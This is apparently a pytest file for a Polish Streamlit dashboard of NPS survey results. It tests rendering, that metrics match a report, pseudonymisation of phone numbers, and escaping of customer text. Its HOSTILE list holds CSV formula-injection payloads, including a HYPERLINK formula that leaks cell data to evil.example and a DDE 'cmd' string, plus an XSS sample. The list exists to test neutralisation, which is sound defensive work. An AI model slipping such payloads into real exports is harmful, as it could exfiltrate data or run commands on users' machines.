"""Every dashboard page under streamlit.testing.v1.AppTest: no exception,
the key numbers present and equal to the report CLI's, clear messages for
an empty or missing store, a response alone, a driver nobody mentioned;
customer text never rendered as markdown; pseudonyms, never phone numbers;
headers and chart labels in Polish; text that a spreadsheet would run as a
formula neutralised in every table; every page at its own address under a
real `streamlit run`. (Login and roles: test_auth.py.)"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pandas as pd
import pytest
from streamlit import config as st_config
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from streamlit.testing.v1 import AppTest
from tornado.websocket import websocket_connect

from analytics import tracker_source
from analytics.dashboard import app
from analytics.dashboard.widgets import FORMULA_STARTS, HEADERS, VALUES, neutralise
from analytics.db import writable_engine
from analytics.drivers import GENERIC, Catalogue
from analytics.generate import generate
from analytics.tests.conftest import Conversation, write

DASH = Path(__file__).resolve().parents[1] / "dashboard"
VIEWS = [v.name for v in app.VIEWS]
TIMEOUT = 90
POLISH = set(HEADERS.values())
ENGLISH = {name for name, shown in HEADERS.items() if name != shown}


def page(name: str) -> AppTest:
    return AppTest.from_file(str(DASH / "views" / f"{name}.py"), default_timeout=TIMEOUT)


def texts(at: AppTest) -> str:
    """Everything shown as text, caption, message or metric."""
    parts = []
    for kind in ("title", "subheader", "caption", "info", "warning", "error", "text", "markdown"):
        parts += [str(e.value) for e in getattr(at, kind)]
    parts += [f"{m.label}={m.value}" for m in at.metric]
    return "\n".join(parts)


def frames(at: AppTest) -> str:
    return "\n".join(e.value.to_csv() for e in at.dataframe)


@pytest.fixture(autouse=True)
def on_loopback(monkeypatch):
    """The dashboard as make run starts it by default: on loopback, no login."""
    before = st_config.get_option("server.address")
    st_config.set_option("server.address", "127.0.0.1")
    monkeypatch.delenv("NPS_HOST", raising=False)
    yield
    st_config.set_option("server.address", before)


@pytest.fixture
def env(monkeypatch, tmp_path):
    def point_at(db_url: str) -> None:
        monkeypatch.setenv("NPS_DB_URL", db_url)
        monkeypatch.setenv("NPS_ANALYTICS_DB_URL", f"sqlite:///{tmp_path / 'analytics.db'}")
        monkeypatch.setenv("NPS_PSEUDONYM_KEY", "test-key")

    return point_at


@pytest.fixture(scope="module")
def generated(tmp_path_factory):
    path = tmp_path_factory.mktemp("gen") / "tracker.db"
    url = f"sqlite:///{path}"
    generate(writable_engine(url), 400, seed=17, end=1_750_000_000.0)
    return url


@pytest.mark.parametrize("name", VIEWS)
def test_every_page_renders_generated_data(name, generated, env):
    env(generated)
    at = page(name).run()
    assert not at.exception, at.exception


def test_overview_numbers_equal_the_report(generated, env, capsys):
    from analytics.__main__ import main

    env(generated)
    assert (
        main(["report", "--db", generated, "--format", "json", "--analytics-db", "sqlite://"]) == 0
    )
    report = json.loads(capsys.readouterr().out)
    at = page("overview").run()
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["NPS"] == f"{report['nps']:.1f}"
    assert metrics["Odpowiedzi"] == str(report["responses"])
    assert metrics["Z oceną"] == str(report["scored"])
    assert f"95%: {report['ci95'][0]:.1f} … {report['ci95'][1]:.1f}" in texts(at)
    # Changing the trend period and a filter keeps the page working.
    at.radio(key="overview_period").set_value("quarter").run()
    assert not at.exception
    at.multiselect(key="f_channels").set_value(["whatsapp"]).run()
    assert not at.exception
    assert (
        main(
            [
                "report",
                "--db",
                generated,
                "--format",
                "json",
                "--analytics-db",
                "sqlite://",
                "--channel",
                "whatsapp",
            ]
        )
        == 0
    )
    whatsapp = json.loads(capsys.readouterr().out)
    assert {m.label: m.value for m in at.metric}["NPS"] == f"{whatsapp['nps']:.1f}"


def test_drivers_page_table_and_verbatims(generated, env, capsys):
    from analytics.__main__ import main

    env(generated)
    assert (
        main(["report", "--db", generated, "--format", "json", "--analytics-db", "sqlite://"]) == 0
    )
    report = json.loads(capsys.readouterr().out)
    at = page("drivers").run()
    table = at.dataframe[0].value.set_index(HEADERS["driver"])
    for d in report["drivers"]:
        assert table.loc[d["driver"], HEADERS["mentions"]] == d["mentions"]
    at.selectbox(key="drivers_pick").set_value("delivery").run()
    at.radio(key="drivers_polarity").set_value("neg").run()
    assert not at.exception
    quotes = at.dataframe[1].value
    delivery = next(d for d in report["drivers"] if d["driver"] == "delivery")
    assert len(quotes) == delivery["negative"]
    assert (quotes[HEADERS["polarity"]] == VALUES["polarity"]["neg"]).all()


@pytest.mark.parametrize("name", VIEWS)
def test_empty_store_gives_a_clear_message(name, env, tmp_path):
    url = f"sqlite:///{tmp_path / 'empty.db'}"
    tracker_source.create_events_table(writable_engine(url))
    env(url)
    at = page(name).run()
    assert not at.exception
    if name != "try_bot":
        assert "Nie ma jeszcze" in texts(at)


@pytest.mark.parametrize("name", VIEWS[:6])
def test_missing_store_gives_a_clear_message(name, env, tmp_path):
    env(f"sqlite:///{tmp_path / 'nothing_here.db'}")
    at = page(name).run()
    assert not at.exception
    assert "Nie mogę odczytać danych" in texts(at) and "tracker store not found" in texts(at)


@pytest.fixture
def one_response(tmp_path):
    url = f"sqlite:///{tmp_path / 'one.db'}"
    c = (
        Conversation("48601234567", "whatsapp")
        .session()
        .user("hej")
        .form()
        .slot("nps_score", 9)
        .user("<script>alert(1)</script> **tanio**")
        .slot("reason", "<script>alert(1)</script> **tanio**")
        .slot("drivers", ["price:pos"])
        .form(None)
        .slot("survey_outcome", "finished")
    )
    write(url, c)
    return url


@pytest.mark.parametrize("name", VIEWS)
def test_one_response(name, one_response, env):
    env(one_response)
    at = page(name).run()
    assert not at.exception
    shown = texts(at)
    if name == "overview":
        assert "NPS=100.0" in shown and "Tylko 1 ocen" in shown
    # Customer text only inside tables or plain text, never as markdown / HTML.
    for element in at.markdown:
        assert "<script>" not in str(element.value) and "tanio" not in str(element.value)
    # The WhatsApp sender id is a phone number: never shown.
    assert "48601234567" not in shown and "48601234567" not in frames(at)


def test_driver_nobody_mentioned(one_response, env):
    env(one_response)
    at = page("drivers").run()
    at.selectbox(key="drivers_pick").set_value("delivery").run()
    assert not at.exception
    assert "Nikt nie wspomniał o czynniku „Dostawa”" in texts(at)


def test_live_shows_pseudonyms(one_response, env):
    env(one_response)
    at = page("live").run()
    assert not at.exception
    table = frames(at)
    assert "klient-" in table and "48601234567" not in table
    assert "<script>alert(1)</script> **tanio**" in table  # the customer's words, as data


HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&B2,"Szczegóły")',
    "+48 600 100 200 zadzwońcie",
    "-1+1 cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_neutralise_prefixes_formulas_and_leaves_the_rest():
    frame = pd.DataFrame(
        {
            "reason": [*HOSTILE, "dobra obsługa", None],
            "change": [-3.5] * len(HOSTILE) + [1.0, None],
            "nps_score": pd.array([1] * len(HOSTILE) + [9, None], dtype="Int64"),
        }
    )
    shown = neutralise(frame)
    assert shown["reason"].tolist()[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert shown["reason"].tolist()[len(HOSTILE) :] == ["dobra obsługa", None]
    pd.testing.assert_series_equal(shown["change"], frame["change"])
    pd.testing.assert_series_equal(shown["nps_score"], frame["nps_score"])
    assert frame["reason"][0] == HOSTILE[0]  # the caller's frame is left as it is


@pytest.fixture
def hostile_reasons(tmp_path):
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    conversations = [
        Conversation(f"formula-{i}", "rest", start=1_700_000_000.0 + 100 * i)
        .session()
        .user("hej")
        .slot("touchpoint", "store")
        .form()
        .slot("nps_score", 2)
        .user(text)
        .slot("reason", text)
        .slot("drivers", ["delivery:neg"])
        .form(None)
        .slot("survey_outcome", "finished")
        for i, text in enumerate(HOSTILE)
    ]
    write(url, *conversations)
    return url


def _cells(at: AppTest) -> list[str]:
    return [
        value
        for frame in at.dataframe
        for column in frame.value.columns
        for value in frame.value[column].tolist()
        if isinstance(value, str)
    ]


@pytest.mark.parametrize("name", ["drivers", "live"])
def test_formulas_in_a_reason_are_neutralised_in_the_tables(name, hostile_reasons, env):
    """What st.dataframe shows is what its "Download as CSV" writes."""
    env(hostile_reasons)
    at = page(name).run()
    if name == "drivers":
        at.selectbox(key="drivers_pick").set_value("delivery").run()
    assert not at.exception
    cells = _cells(at)
    for text in HOSTILE:
        # (the projection may strip the leading tab or carriage return)
        assert "'" + text in cells or "'" + text.strip() in cells, text
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


class _StandInBot(BaseHTTPRequestHandler):
    received: list = []

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        _StandInBot.received.append(body)
        reply = [
            {
                "recipient_id": body["sender"],
                "text": "Jak bardzo polecisz nas znajomym? (0-10)",
                "buttons": [{"title": str(i), "payload": str(i)} for i in range(11)],
            }
        ]
        data = json.dumps(reply).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


@pytest.fixture
def stand_in_bot(monkeypatch):
    server = HTTPServer(("127.0.0.1", 0), _StandInBot)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    _StandInBot.received = []
    monkeypatch.setenv("NPS_BOT_URL", f"http://127.0.0.1:{server.server_port}")
    yield _StandInBot.received
    server.shutdown()
    server.server_close()


def test_try_the_bot(stand_in_bot, env, one_response):
    env(one_response)
    at = page("try_bot").run()
    at.chat_input(key="bot_input").set_value("cześć").run()
    assert not at.exception
    # A test chat: analytics leaves conversations rest:try-<uuid> out.
    sender = stand_in_bot[0]["sender"]
    assert stand_in_bot[0]["message"] == "cześć" and sender.startswith("try-")
    assert len(sender) == len("try-") + 32
    assert "Jak bardzo polecisz nas znajomym? (0-10)" in texts(at)
    at.button(key="bot_button_2_8").click().run()
    assert not at.exception
    assert stand_in_bot[-1]["message"] == "8"


def test_try_the_bot_when_it_is_down(env, one_response, monkeypatch):
    env(one_response)
    monkeypatch.setenv("NPS_BOT_URL", "http://127.0.0.1:9")
    at = page("try_bot").run()
    at.chat_input(key="bot_input").set_value("cześć").run()
    assert not at.exception
    assert "Bot nie odpowiada" in texts(at)


def test_app_navigation_and_which_pages_follow_the_filters(generated, env):
    env(generated)
    at = AppTest.from_file(str(DASH / "app.py"), default_timeout=TIMEOUT).run()
    assert not at.exception
    assert any(m.label == "NPS" for m in at.metric)  # the root address shows the overview
    for view in app.VIEWS:
        at.switch_page(f"views/{view.name}.py").run()
        assert not at.exception, view.name
        filters = [w.key for w in at.sidebar.multiselect]
        assert ("f_channels" in filters) == view.follows_filters, view.name


def _chart_titles(spec) -> list:
    """(channel, title) of every encoding a chart shows to the reader: axes,
    legends and tooltip lines; x2 / y2 / text / offsets draw no label."""
    found = []
    if isinstance(spec, dict):
        for channel, enc in (spec.get("encoding") or {}).items():
            for e in enc if isinstance(enc, list) else [enc]:
                if not isinstance(e, dict) or "field" not in e:
                    continue
                if channel in ("x2", "y2", "text", "xOffset", "yOffset"):
                    continue
                if channel in ("color", "size") and e.get("legend", {}) is None:
                    continue
                found.append((channel, e.get("title", e["field"])))
        for value in spec.values():
            found += _chart_titles(value)
    elif isinstance(spec, list):
        for value in spec:
            found += _chart_titles(value)
    return found


@pytest.mark.parametrize("name", VIEWS[:5])
def test_headers_and_chart_labels_are_polish(name, generated, env):
    env(generated)
    at = page(name).run()
    assert not at.exception
    for frame in at.dataframe:
        columns = set(frame.value.columns)
        assert columns <= POLISH, columns - POLISH
        assert not columns & ENGLISH
    for chart in at.get("arrow_vega_lite_chart"):
        for channel, title in _chart_titles(json.loads(chart.proto.spec)):
            assert title is None or title not in ENGLISH, (channel, title)
            assert channel != "tooltip" or title in POLISH, title


@pytest.mark.parametrize("generic", [None, float("nan"), GENERIC])
def test_root_causes_without_a_negative_driver_are_generic(generic, one_response, env, monkeypatch):
    """A why-chain that probed no driver (the bot asked generic questions),
    marked GENERIC or missing, is shown in one row of its own, labelled in
    words, and the row can be opened."""
    from analytics import drivers

    def causes(ds):
        return pd.DataFrame(
            {
                "driver": ["delivery", generic, generic],
                "response_id": ["r1", "r2", "r3"],
                "nps_score": [3, 2, 1],
                "reason": ["długo", "źle", "nie wiem"],
                "depth": [1, 2, 1],
                "stop": [None, None, None],
                "chain": ["a", "b → c", "d"],
            }
        )

    monkeypatch.setattr(drivers, "root_causes", causes)
    env(one_response)
    at = page("root_causes").run()
    assert not at.exception
    summary = at.dataframe[0].value
    assert len(summary) == 2
    assert summary[HEADERS["chains"]].tolist() == [2, 1]
    generic_row = summary.iloc[0]
    assert generic_row[HEADERS["driver"]] == ""  # no driver id to show
    assert generic_row[HEADERS["label"]] == Catalogue({}, {}).label(GENERIC)
    at.selectbox(key="root_pick").set_value(GENERIC).run()
    assert not at.exception and len(at.dataframe[1].value) == 2


def test_generic_why_chain_of_a_real_conversation(env, tmp_path):
    """A detractor who praised the price and named nothing negative answers
    the generic whys: the page files the chain under the generic row, not
    under the driver they praised."""
    url = f"sqlite:///{tmp_path / 'generic.db'}"
    c = (
        Conversation("detractor-1", "rest")
        .session()
        .user("hej")
        .form()
        .slot("nps_score", 3)
        .user("ceny w porządku")
        .slot("reason", "ceny w porządku")
        .slot("drivers", ["price:pos"])
        .user("bo tak")
        .slot("why_chain", ["bo tak"])
        .form(None)
        .slot("survey_outcome", "finished")
    )
    write(url, c)
    env(url)
    at = page("root_causes").run()
    assert not at.exception
    summary = at.dataframe[0].value
    assert summary[HEADERS["label"]].tolist() == [Catalogue({}, {}).label(GENERIC)]
    assert summary[HEADERS["chains"]].tolist() == [1]


# --- every page at its own address, under a real server ----------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def served(generated, tmp_path_factory):
    """`streamlit run analytics/dashboard/app.py` on a free loopback port."""
    port = _free_port()
    analytics_db = tmp_path_factory.mktemp("served") / "analytics.db"
    env = dict(
        os.environ,
        NPS_DB_URL=generated,
        NPS_ANALYTICS_DB_URL=f"sqlite:///{analytics_db}",
        NPS_PSEUDONYM_KEY="test-key",
    )
    command = [sys.executable, "-m", "streamlit", "run", str(DASH / "app.py")]
    command += [
        "--server.address=127.0.0.1",
        f"--server.port={port}",
        "--server.headless=true",
        "--server.fileWatcherType=none",
        "--browser.gatherUsageStats=false",
    ]
    server = subprocess.Popen(
        command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2):
                    break
            except OSError:
                if server.poll() is not None or time.monotonic() > deadline:
                    pytest.fail("streamlit run did not start")
                time.sleep(0.5)
        yield port
    finally:
        server.terminate()
        try:
            server.wait(timeout=10)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()


async def _open(port: int, path: str) -> list:
    """What a browser does on opening http://host/<path>: Streamlit's page
    connects to /_stcore/stream and asks for a run with the path as its
    page_name. Returns the server's messages up to the end of the run that
    finished (a redirect finishes one run early and starts another)."""
    ws = await websocket_connect(f"ws://127.0.0.1:{port}/_stcore/stream")
    try:
        request = BackMsg()
        request.rerun_script.page_name = path
        await ws.write_message(request.SerializeToString(), binary=True)
        seen = []
        while True:
            raw = await asyncio.wait_for(ws.read_message(), TIMEOUT)
            assert raw is not None, "the server closed the connection"
            msg = ForwardMsg.FromString(raw)
            seen.append(msg)
            if msg.WhichOneof("type") == "script_finished" and (
                msg.script_finished == ForwardMsg.FINISHED_SUCCESSFULLY
            ):
                return seen
    finally:
        ws.close()


def test_every_page_answers_at_its_own_address(served):
    """Streamlit serves the same HTML at every path, so an HTTP status proves
    nothing; the page is chosen over the websocket. A path that matches no
    page's url_pathname gets a page_not_found message and the default page
    (the root address) instead. Here every page's address runs that page,
    without "page not found" and without an exception, and / goes on to the
    overview."""
    addresses = {view.name: view.name for view in app.VIEWS} | {"": app.VIEWS[0].name}
    for path, expected in addresses.items():
        messages = asyncio.run(_open(served, path))
        kinds = [m.WhichOneof("type") for m in messages]
        assert "page_not_found" not in kinds, path
        navigation = [m.navigation for m in messages if m.WhichOneof("type") == "navigation"][-1]
        ran = {p.page_script_hash: p.url_pathname for p in navigation.app_pages}
        assert ran[navigation.page_script_hash] == expected, path
        elements = [
            m.delta.new_element
            for m in messages
            if m.WhichOneof("type") == "delta" and m.delta.WhichOneof("type") == "new_element"
        ]
        assert not any(e.WhichOneof("type") == "exception" for e in elements), path
        # The page itself ran, not only the sidebar: its title is there.
        assert any(e.WhichOneof("type") == "heading" and e.heading.tag == "h1" for e in elements)
